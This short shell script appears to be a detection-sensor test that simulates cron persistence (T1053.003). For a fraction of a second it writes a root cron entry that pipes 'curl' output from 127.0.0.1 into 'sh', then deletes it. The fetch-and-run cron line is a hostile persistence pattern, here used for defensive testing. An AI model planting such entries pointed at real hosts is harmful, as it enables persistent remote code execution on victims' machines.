# techniques: T1053.003
# Persistence through cron: a drop-in /etc/cron.d/sensor-corpus-test that would run a
# downloader every minute (its command only targets 127.0.0.1 and is removed within a second,
# before cron's next minute tick). /etc/cron.d is created and removed if absent.
unset LD_LIBRARY_PATH
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; export PATH
f=/etc/cron.d/sensor-corpus-test
[ -e $f ] && exit 0
created=
[ -d /etc/cron.d ] || { mkdir -m 755 /etc/cron.d && created=1; }
echo '* * * * * root curl -fsS http://127.0.0.1:1/u.sh | sh # sensor-corpus-test' > $f
chmod 644 $f
sleep 0.3
rm -f $f
[ -n "$created" ] && rmdir /etc/cron.d
exit 0
